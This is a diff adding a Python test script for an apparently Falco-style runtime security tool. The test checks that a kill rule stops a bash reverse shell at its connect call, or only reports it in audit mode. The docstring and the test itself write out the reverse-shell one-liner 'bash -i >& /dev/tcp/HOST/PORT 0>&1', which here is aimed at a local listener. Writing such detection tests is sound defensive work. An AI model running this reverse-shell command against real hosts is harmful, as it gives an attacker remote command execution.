@@ -1,0 +1,169 @@
+#!/usr/bin/env python3
+"""check_acting_rules.py - a Falco-syntax rule with `action: kill` stops a
+reverse shell in the kernel; with --audit it only reports.
+
+The reverse shell is the classic `bash -i >& /dev/tcp/HOST/PORT 0>&1`: a
+bash that connects out, makes the connection its stdin, stdout and stderr,
+and runs what the listener sends. The rule is "a shell binary connects":
+evt.type = connect and proc.exepath in (...), compiled into a sys_connect
+hook with matchBinaries and Sigkill. The shell binary is a copy of bash at
+a path this test makes, so the rule touches nothing else on the host.
+
+enforce: the shell is killed by SIGKILL at its connect, the listener gets
+no command output, and the rule's alert says vigil.action=killed.
+audit:   the shell runs the listener's command (its output arrives), and the
+alert says vigil.action=would kill.
+
+usage: check_acting_rules.py VIGIL enforce|audit"""
+import json
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import tempfile
+import threading
+import uuid
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+import livelib  # noqa: E402
+
+RULE = """- rule: Shell connects out
+  desc: a shell binary opens a network connection (a reverse shell)
+  condition: evt.type = connect and evt.dir = > and proc.exepath in ({shell})
+  output: Shell connected out (proc.name=%proc.name proc.pid=%proc.pid proc.exepath=%proc.exepath)
+  priority: CRITICAL
+  tags: [vigil_test]
+  action: kill
+"""
+
+
+def listen(srv, nonce, got):
+    """Accept the shell, send it one command, collect what comes back."""
+    srv.settimeout(20)
+    try:
+        c, _ = srv.accept()
+    except OSError:
+        return
+    got["connected"] = True
+    c.settimeout(10)
+    try:
+        c.sendall(("echo out-$((6*7))-%s\nexit\n" % nonce).encode())
+    except OSError:
+        pass
+    data = b""
+    try:
+        while True:
+            b = c.recv(4096)
+            if not b:
+                break
+            data += b
+    except OSError:
+        pass
+    got["data"] = data.decode("utf-8", "replace")
+    c.close()
+
+
+def main():
+    livelib.require_root()
+    vigil, mode = sys.argv[1], sys.argv[2]
+    nonce = uuid.uuid4().hex[:12]
+    tmp = tempfile.mkdtemp(prefix="vigil-act-")
+    v = None
+    fails = []
+    try:
+        shell = os.path.join(tmp, "bash-" + nonce)
+        shutil.copy2(shutil.which("bash"), shell)
+        rules = os.path.join(tmp, "act.yaml")
+        with open(rules, "w") as f:
+            f.write(RULE.format(shell=shell))
+        chk = subprocess.run([vigil, "rules", "check", rules], capture_output=True, text=True)
+        if chk.returncode != 0 or "matchBinaries In %s" % shell not in chk.stdout or "Sigkill" not in chk.stdout:
+            print("FAIL: rules check does not show the compiled rule:\n%s\n%s" % (chk.stdout, chk.stderr))
+            return 1
+        argv = [vigil, "run", "-r", rules, "-o", "json_output=true", "--stats",
+                "--policy-events", os.path.join(tmp, "pevents.json")]
+        if mode == "audit":
+            argv.append("--audit")
+        v = livelib.Vigil(argv)
+        if not v.wait_ready():
+            print("FAIL: " + livelib.start_failure(v))
+            return 1
+        srv = socket.socket()
+        srv.bind(("127.0.0.1", 0))
+        srv.listen(1)
+        port = srv.getsockname()[1]
+        got = {}
+        t = threading.Thread(target=listen, args=(srv, nonce, got), daemon=True)
+        t.start()
+        p = subprocess.run([shell, "-c", "exec %s -i >& /dev/tcp/127.0.0.1/%d 0>&1" % (shell, port)],
+                           stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=30)
+        t.join(25)
+        srv.close()
+        want = "out-42-%s" % nonce
+        data = got.get("data", "")
+
+        def alert(lines):
+            for line in lines:
+                try:
+                    a = json.loads(line)
+                except ValueError:
+                    continue
+                if a.get("rule") == "Shell connects out" and a.get("output_fields", {}).get("proc.exepath") == shell:
+                    return a
+            return None
+
+        a = v.wait_for(alert, 20)
+        if mode == "enforce":
+            if p.returncode != -9:
+                fails.append("the shell was not killed by SIGKILL: status %s, stderr %r" % (p.returncode, p.stderr))
+            if want in data:
+                fails.append("the listener received the command's output: %r" % data)
+        else:
+            if p.returncode == -9:
+                fails.append("audit mode killed the shell")
+            if want not in data:
+                fails.append("audit mode: the shell did not run the command (listener got %r, shell status %s)" %
+                             (data, p.returncode))
+        expect = "killed" if mode == "enforce" else "would kill"
+        if not a:
+            fails.append("no alert of the rule for %s" % shell)
+        else:
+            of = a["output_fields"]
+            if of.get("vigil.action") != expect:
+                fails.append("alert vigil.action is %r, not %r: %s" % (of.get("vigil.action"), expect, a))
+            if "vigil.action=%s" % expect not in a.get("output", ""):
+                fails.append("alert output does not say vigil.action=%s: %s" % (expect, a.get("output")))
+            if a.get("priority") != "Critical":
+                fails.append("alert priority %r" % a.get("priority"))
+        rc = v.stop()
+        v = None
+        if rc != 0:
+            fails.append("vigil exited with %s" % rc)
+        # the Tetragon event of the hook the rule compiled into
+        evs = []
+        with open(os.path.join(tmp, "pevents.json")) as f:
+            for line in f:
+                e = json.loads(line)
+                k = e.get("process_kprobe", {})
+                if k.get("process", {}).get("binary") == shell:
+                    evs.append(k)
+        if not evs:
+            fails.append("no process_kprobe event for the shell's connect")
+        elif not any(k.get("function_name", "").endswith("sys_connect") and
+                     k.get("action") == "KPROBE_ACTION_SIGKILL" for k in evs):
+            fails.append("the policy event does not report sys_connect / KPROBE_ACTION_SIGKILL: %s" % evs[0])
+    finally:
+        if v:
+            v.stop()
+        shutil.rmtree(tmp, ignore_errors=True)
+    for f in fails:
+        print("FAIL: " + f)
+    if not fails:
+        print("ok: %s: %s" % (mode, "shell killed at connect, no command output" if mode == "enforce"
+                              else "shell ran, alert says it would have been killed"))
+    return 1 if fails else 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
